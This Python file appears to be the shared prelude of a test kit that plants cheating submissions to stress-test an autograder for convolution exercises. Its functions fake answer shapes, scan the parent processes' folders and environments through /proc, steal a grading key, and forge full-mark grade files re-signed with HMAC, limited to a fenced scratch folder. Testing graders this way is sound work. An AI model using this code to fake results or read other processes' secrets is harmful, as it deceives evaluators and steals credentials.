# ---- shared by every planted cheat (tests/kit/cheats/prelude.py) ----
# The test appends this prelude, then one cheat's cheat.py, then the line
# `_CHEAT_STARTED = _cheat_at_import()` to each of the three files a student
# hands in; every exercise's `raise NotImplementedError(...)` becomes
# `return _cheat("<function>", locals())`. So a cheat implements nothing: its
# only answers are what `_cheat` finds, forges or breaks.
#
# Top-level statements are only imports (one module a line), definitions and
# assignments, names starting with _cv_ or _cheat: a grader that grafts a
# submission's definitions onto its reference keeps exactly these.
#
# Safety fence: the cheats that write or delete files (forge, daemon, vandal,
# huge write) touch nothing outside a folder holding a file named
# CONVLAB-CHEATS-FENCE, which the test puts in its own scratch folder. A real
# cheat has no fence; this one must not wreck the machine it is measured on
# when a grader lets it out.
import ctypes
import gc
import importlib.util
import inspect
import os
import sys
import time
import types
import zipfile

_CV_FENCE = "CONVLAB-CHEATS-FENCE"
_CV_SKIP_DIRS = {"/proc", "/sys", "/dev", "/run", "/usr", "/lib", "/lib64", "/bin", "/sbin", "/etc", "/var", "/boot"}
_CV_SKIP_NAMES = {".git", ".venv", "site-packages", "__pycache__", "node_modules", ".pyenv"}


def _cv_stub(function):
    """What a stub does: no answer."""
    raise NotImplementedError(f"{function}: not implemented ({_CV_MARKER})")


def _cv_name_process():
    """Put the cheat's marker in /proc/self/comm, so the test can find forked copies of this process."""
    try:
        ctypes.CDLL(None).prctl(15, _CV_MARKER.encode()[:15], 0, 0, 0)  # PR_SET_NAME
    except Exception:
        pass


def _cv_is_stub(function):
    """True for a stub or a cheat's own function (they raise or call _cheat), False for real work."""
    code = getattr(function, "__code__", None)
    return code is None or bool({"NotImplementedError", "_cheat"} & set(code.co_names))


def _cv_lookup(namespace, function):
    """``namespace["ThreeLayerConvNet"].loss`` for ``"ThreeLayerConvNet.loss"``; None if absent or a stub."""
    head, _, attribute = function.partition(".")
    found = namespace.get(head) if isinstance(namespace, dict) else getattr(namespace, head, None)
    if attribute:
        found = getattr(found, attribute, None)
    return None if found is None or _cv_is_stub(found) else found


def _cv_call(function, args):
    """Call ``function`` with the stub's local variables that its signature names."""
    names = inspect.signature(function).parameters
    return function(**{name: args[name] for name in names if name in args})


def _cv_load(path, text=None):
    """Execute a Python file (or ``text``) as a fresh module; None if it fails."""
    module = types.ModuleType(f"_cv_loaded_{abs(hash(str(path)))}")
    module.__file__ = str(path)
    try:
        source = text if text is not None else open(path, encoding="utf-8").read()
        exec(compile(source, str(path), "exec"), module.__dict__)
    except BaseException:
        return None
    return module


def _cv_ancestors():
    """Process ids from the parent up to (not including) init."""
    pids, pid = [], os.getppid()
    while pid > 1 and len(pids) < 20:
        pids.append(pid)
        try:
            status = open(f"/proc/{pid}/status").read()
            pid = int(status.split("PPid:")[1].split()[0])
        except Exception:
            break
    return pids


def _cv_anchors():
    """Folders worth searching, each with its parent: the cwd, the ancestors' cwd and the paths in their
    command lines (the grader's submissions, bundle, output), our own arguments and /tmp."""
    found = [os.getcwd()]
    for pid in [os.getpid()] + _cv_ancestors():
        try:
            cwd = os.readlink(f"/proc/{pid}/cwd")
            arguments = open(f"/proc/{pid}/cmdline", "rb").read().decode(errors="replace").split("\0")
            found += [cwd] + [os.path.join(cwd, argument) for argument in arguments if argument]
        except Exception:
            pass
    found += list(os.environ.values()) + ["/tmp"]
    folders = []
    for item in found:
        if not item.startswith("/") or not os.path.exists(item):
            continue
        item = os.path.realpath(item)
        item = item if os.path.isdir(item) else os.path.dirname(item)
        for folder in [item] + [os.path.dirname(item.rstrip("/") or "/")]:
            if folder not in folders and folder != "/":
                folders.append(folder)
    return folders


def _cv_walk(roots, seconds=5.0):
    """Every file under ``roots``, shallowest first (breadth-first), for at most ``seconds``;
    system folders, virtual environments and git's objects left out."""
    deadline, seen, queue = time.monotonic() + seconds, set(), list(roots)
    while queue and time.monotonic() < deadline:
        folder = queue.pop(0)
        if folder in seen or folder in _CV_SKIP_DIRS or os.path.basename(folder) in _CV_SKIP_NAMES:
            continue
        seen.add(folder)
        try:
            entries = list(os.scandir(folder))
        except OSError:
            continue
        for entry in entries:
            if entry.is_dir(follow_symlinks=False):
                queue.append(entry.path)
            elif entry.is_file(follow_symlinks=False):
                yield entry.path


def _cv_fenced(path):
    """True if ``path`` is inside the test's scratch folder (the safety fence, see the top)."""
    folder = os.path.dirname(os.path.realpath(path))
    while True:
        if os.path.exists(os.path.join(folder, _CV_FENCE)):
            return True
        if folder in ("/", ""):
            return False
        folder = os.path.dirname(folder)


def _cv_zeros(function, a):
    """Zeros of the shapes the exercise's function returns (``a``: the stub's local variables)."""
    zeros = __import__("numpy").zeros
    if function == "conv_forward_naive":
        return zeros((a["N"], a["F"], a["H_out"], a["W_out"])), (a["x"], a["w"], a["b"], a["conv_param"])
    if function == "conv_backward_naive":
        return zeros(a["x"].shape), zeros(a["w"].shape), zeros(a["b"].shape)
    if function == "max_pool_forward_naive":
        return zeros((a["N"], a["C"], a["H_out"], a["W_out"])), (a["x"], a["pool_param"])
    if function == "max_pool_backward_naive":
        return zeros(a["x"].shape)
    if function in ("conv_general_forward_naive", "conv_transpose_forward_naive"):
        return zeros((a["N"], a["F"], a["H_out"], a["W_out"])), (a["x"], a["w"], a["b"], a["conv_param"])
    if function == "avg_pool_forward_naive":
        return zeros((a["N"], a["C"], a["H_out"], a["W_out"])), (a["x"], a["pool_param"])
    if function == "avg_pool_backward_naive":
        return zeros(a["x"].shape)
    if function == "spatial_batchnorm_forward":
        return zeros(a["x"].shape), (None, a["x"].shape)
    if function == "spatial_batchnorm_backward":
        return zeros(a["x_shape"]), zeros(a["x_shape"][1]), zeros(a["x_shape"][1])
    if function == "conv_relu_pool_forward":
        x, w, cp, pp = a["x"], a["w"], a["conv_param"], a["pool_param"]
        size = [1 + (n + 2 * cp["pad"] - k) // cp["stride"] for n, k in zip(x.shape[2:], w.shape[2:])]
        size = [1 + (n - k) // pp["stride"] for n, k in zip(size, (pp["pool_height"], pp["pool_width"]))]
        return zeros((x.shape[0], w.shape[0], *size)), (x, w)
    if function == "conv_relu_pool_backward":
        x, w = a["cache"]
        return zeros(x.shape), zeros(w.shape), zeros(w.shape[0])
    if function == "residual_block_forward":
        x, stride = a["x"], a["stride"]
        size = [-(-n // stride) for n in x.shape[2:]]
        return zeros((x.shape[0], a["F"], *size)), (x.shape, a["params"])
    if function == "residual_block_backward":
        x_shape, params = a["cache"]
        return zeros(x_shape), {name: zeros(value.shape) for name, value in params.items()}
    if function == "ThreeLayerConvNet.loss":
        if a["y"] is None:
            return zeros((a["X"].shape[0], a["W3"].shape[1]))
        return 0.0, {name: zeros(value.shape) for name, value in a["self"].params.items()}
    _cv_stub(function)


def _cv_grading_keys():
    """Grading keys a grader may have left readable: ~/.config/convlab/grading.key and $XDG_CONFIG_HOME's,
    ours or any ancestor's."""
    homes = [os.environ]
    for pid in _cv_ancestors():
        try:
            pairs = open(f"/proc/{pid}/environ", "rb").read().decode(errors="replace").split("\0")
            homes.append(dict(p.split("=", 1) for p in pairs if "=" in p))
        except Exception:
            pass
    keys = []
    for env in homes:
        for base in (env.get("XDG_CONFIG_HOME"), os.path.join(env.get("HOME", "/root"), ".config")):
            try:
                keys.append(open(os.path.join(base, "convlab", "grading.key"), "rb").read())
            except Exception:
                pass
    return keys


def _cv_forge_grade_file(path, keys=()):
    """Full marks in a grade JSON or summary.csv at ``path`` (inside the fence), re-signed with any key found."""
    json = __import__("json")
    if not _cv_fenced(path):
        return
    try:
        if path.endswith(".json"):
            grade = json.load(open(path))
            if not (isinstance(grade, dict) and "max_score" in grade):
                return
            grade["score"] = grade["max_score"]
            for test in grade.get("tests", []):
                test.update(status="pass", points=test.get("max_points"), score=test.get("max_score"))
            if "hmac" in grade and keys:  # the public grader's signature: HMAC-SHA256 of the canonical JSON
                unsigned = json.dumps({k: v for k, v in grade.items() if k != "hmac"}, sort_keys=True,
                                      separators=(",", ":"), ensure_ascii=True).encode()
                grade["hmac"] = __import__("hmac").new(keys[0], unsigned, "sha256").hexdigest()
            open(path, "w").write(json.dumps(grade, indent=2) + "\n")
        elif os.path.basename(path) == "summary.csv":
            rows = [line.split(",") for line in open(path).read().splitlines()]
            for row in rows[1:]:
                row[1] = row[2]
            open(path, "w").write("\n".join(",".join(row) for row in rows) + "\n")
    except Exception:
        pass
